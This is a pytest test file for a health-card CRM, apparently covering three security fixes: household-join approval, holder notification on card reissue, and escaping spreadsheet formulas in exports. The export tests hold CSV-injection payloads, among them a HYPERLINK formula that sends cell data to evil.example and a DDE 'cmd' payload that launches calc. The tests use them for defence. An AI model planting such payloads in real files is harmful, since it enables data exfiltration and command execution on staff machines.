"""Attacks on households and exports, replayed on PostgreSQL (issue #24, items 7, 10 and 12).

7: enrolling oneself into someone else's household opened the family's cards, children's card PDFs and past
   contacts to one's mobile at once. 10: a household member got another adult's card reissued without them
   knowing. 12: formulas typed in a registry file or an SMS came out live in the exports staff open.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest
from sqlalchemy import select

from crm.cases import lifecycle
from crm.cases.status import Status
from crm.models import AuditLog, CardRequest, CaseEvent, HealthCard, HouseholdJoin, Patient
from crm.platform import jobs
from crm.platform.extensions import db
from tests import factories
from tests.portal.conftest import sign_in, texts_to

pytestmark = pytest.mark.pg
MOTHER, HUSBAND, STRANGER = "+919810011111", "+919810022222", "+919899988877"
DEVANAGARI = re.compile(r"[\u0900-\u097f]")


@pytest.fixture
def app(pg_app):
    pg_app.config.update(JOBS_HOLD=True, JOBS_EAGER=False)  # texts are kept to be read, not sent
    jobs.init_app(pg_app)  # the runner is chosen when the app is built: choose again, holding
    return pg_app


@pytest.fixture
def family(app):
    """A mother (her mobile also on her son of 10) and her husband with his own mobile; each carded; the son has
    been seen by the helpline."""
    home = factories.make_household(code="HH-EAST-0042")
    mother = factories.make_patient(home, name="Sunita Devi", sex="F", mobile=MOTHER, relation="self")
    year = date.today().year - 10
    son = factories.make_patient(home, name="Aman Kumar", sex="M", dob=date(year, 1, 1), birth_year=year,
                                 mobile=MOTHER, relation="son")
    husband = factories.make_patient(home, name="Rakesh Kumar", sex="M", mobile=HUSBAND, relation="husband")
    cards = {p.name: factories.make_card(p).number for p in (mother, son, husband)}
    contact = lifecycle.open_case("voice", MOTHER, status=Status.QUEUED, patient_id=son.id)
    contact.disposition, contact.advice = "advice", "Give ORS every hour"
    db.session.commit()
    return {"home": home, "mother": mother, "son": son, "husband": husband, "cards": cards,
            "contact": contact.reference}


def enrol_into(client, code: str) -> dict:
    response = client.post("/api/v1/enrollment/residents", json={
        "name": "Vikram Singh", "sex": "M", "birth_year": 1990, "mobile": STRANGER, "ward": "Seelampur",
        "place": "GTB Hospital camp", "household_code": code, "confirm_new": True})
    assert response.status_code == 201, response.data
    return response.get_json()


def portal_of(app, mobile: str):
    citizen = app.test_client()
    sign_in(citizen, mobile)
    citizen.get("/portal/lang/en?next=/portal/")
    return citizen


# Item 7 ------------------------------------------------------------------------------------------------------

def test_enrolling_into_a_household_opens_nothing_of_the_family_until_the_card_office_approves(app, family):
    registrar, _ = factories.logged_in(app, "registrar")
    enrolled = enrol_into(registrar, "HH-EAST-0042")
    db.session.commit()
    stranger = portal_of(app, STRANGER)
    home = stranger.get("/portal/").get_data(as_text=True)
    assert "Vikram Singh" in home and "Aman Kumar" not in home and "Sunita Devi" not in home
    assert stranger.get(f"/portal/cards/{family['cards']['Aman Kumar']}.pdf").status_code == 404
    assert stranger.get(f"/portal/cards/{family['cards']['Sunita Devi']}/qr.png").status_code == 404
    assert family["contact"] not in stranger.get("/portal/contacts").get_data(as_text=True)
    # The family hears of it at once, in Hindi (the mother's language), and the son's mobile is hers: one text.
    told = texts_to(MOTHER, "household_join")
    assert len(told) == 1 and DEVANAGARI.search(told[0]) and enrolled["household_join"] in told[0]
    assert texts_to(HUSBAND, "household_join")
    # The registrar who enrolled him cannot also vouch for him; another member of the card office does.
    join = db.session.scalar(select(HouseholdJoin))
    assert registrar.post(f"/card-office/household-joins/{join.id}/approve").status_code == 409
    office, officer = factories.logged_in(app, "supervisor")
    assert office.post(f"/card-office/household-joins/{join.id}/approve",
                       data={"note": "called Sunita Devi, she confirmed"}).status_code == 302
    assert stranger.get(f"/portal/cards/{family['cards']['Aman Kumar']}.pdf").status_code == 200
    assert len(texts_to(MOTHER, "household_join")) == 2
    decided = db.session.scalar(select(AuditLog).where(AuditLog.action == "household_join_approved"))
    assert decided.staff_id == officer.id and decided.patient_id == enrolled["patient_id"]


def test_a_refused_join_keeps_the_resident_apart_and_the_family_is_told(app, family):
    registrar, _ = factories.logged_in(app, "registrar")
    enrol_into(registrar, "HH-EAST-0042")
    db.session.commit()
    join = db.session.scalar(select(HouseholdJoin))
    office, officer = factories.logged_in(app, "registrar")
    page = office.get("/card-office/requests").get_data(as_text=True)
    assert join.reference in page and "Sunita Devi" in page  # whom to call to verify
    assert office.post(f"/card-office/household-joins/{join.id}/refuse", data={"note": "x"}).status_code == 422
    assert office.post(f"/card-office/household-joins/{join.id}/refuse",
                       data={"note": "Sunita Devi does not know him"}).status_code == 302
    assert db.session.get(Patient, join.patient_id).household_id is None
    stranger = portal_of(app, STRANGER)
    assert stranger.get(f"/portal/cards/{family['cards']['Aman Kumar']}.pdf").status_code == 404
    assert len(texts_to(HUSBAND, "household_join")) == 2
    decided = db.session.scalar(select(AuditLog).where(AuditLog.action == "household_join_refused"))
    assert decided.staff_id == officer.id


# Item 10 -----------------------------------------------------------------------------------------------------

def test_another_adults_card_is_not_reissued_behind_their_back(app, family):
    mother = portal_of(app, MOTHER)
    husbands = family["cards"]["Rakesh Kumar"]
    assert "Rakesh Kumar will be told by SMS" in mother.get(f"/portal/cards/{husbands}/request").get_data(as_text=True)
    assert mother.post(f"/portal/cards/{husbands}/request", data={"kind": "duplicate", "why": "lost"}).status_code == 302
    told = texts_to(HUSBAND, "card_request")
    assert len(told) == 1 and DEVANAGARI.search(told[0])  # the holder hears of it on his own mobile
    asked = db.session.scalar(select(CardRequest))
    office, officer = factories.logged_in(app, "registrar")
    assert "Asked by another adult" in office.get("/card-office/requests").get_data(as_text=True)
    assert office.post(f"/card-office/requests/{asked.id}/reissue").status_code == 409
    assert db.session.scalar(select(HealthCard.status).where(HealthCard.number == husbands)) == "issued"
    assert office.post(f"/card-office/requests/{asked.id}/reissue", data={"holder_confirmed": "1"}).status_code == 302
    assert db.session.scalar(select(HealthCard.status).where(HealthCard.number == husbands)) == "superseded"
    assert len(texts_to(HUSBAND, "card_request")) == 2
    confirmed = db.session.scalar(select(AuditLog).where(AuditLog.action == "card_request_holder_confirmed"))
    assert confirmed.staff_id == officer.id and confirmed.patient_id == family["husband"].id


def test_a_parent_still_gets_a_childs_card_reissued_as_before(app, family):
    mother = portal_of(app, MOTHER)
    sons = family["cards"]["Aman Kumar"]
    assert mother.post(f"/portal/cards/{sons}/request", data={"kind": "duplicate", "why": "damaged"}).status_code == 302
    asked = db.session.scalar(select(CardRequest))
    office, _ = factories.logged_in(app, "registrar")
    assert office.post(f"/card-office/requests/{asked.id}/reissue").status_code == 302
    assert db.session.scalar(select(HealthCard.status).where(HealthCard.number == sons)) == "superseded"


# Item 12 -----------------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Open")'


def evaluated(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_a_formula_in_a_registry_file_is_not_live_in_the_rejects_csv(app):
    from tests.admin.test_card_office import csv_bytes

    app.config.update(JOBS_HOLD=False, JOBS_EAGER=True)
    jobs.init_app(app)  # the import runs (it is a job) so its rejects file can be read
    office, _ = factories.logged_in(app, "registrar")
    bad = f'R9,,"{FORMULA.replace(chr(34), chr(34) * 2)}",,1980-01-01,,Q,@SUM(1+1),HH9,-2+3,Seelampur,self'
    response = office.post("/card-office/imports", data={"file": (io.BytesIO(csv_bytes(bad)), "east.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 303
    job_id = int(response.location.split("job=")[1].split("#")[0])
    rejects = office.get(f"/card-office/jobs/{job_id}/rejects.csv")
    rows = list(csv.reader(io.StringIO(rejects.get_data(as_text=True))))
    assert len(rows) == 2 and "'" + FORMULA in rows[1]
    assert not [cell for row in rows for cell in row if evaluated(cell)]


def test_a_formula_in_a_citizens_sms_is_not_live_in_the_triage_labels_tsv(app):
    from tests.triage_review.seed import triaged_sms

    case = triaged_sms("=cmd|' /C calc'!A0 seene me dard", phone=STRANGER)
    event = db.session.scalar(select(CaseEvent.id).where(CaseEvent.case_id == case.id, CaseEvent.kind == "sms_in"))
    doctor, _ = factories.logged_in(app, "doctor")
    assert doctor.post("/triage-review/label", data={"event_id": str(event), "priority": "P1"}).status_code == 303
    lines = doctor.get("/triage-review/export.tsv").get_data(as_text=True).splitlines()
    cells = [cell for line in lines for cell in line.split("\t")]
    assert "'=cmd|' /C calc'!A0 seene me dard" in cells and not [c for c in cells if evaluated(c)]
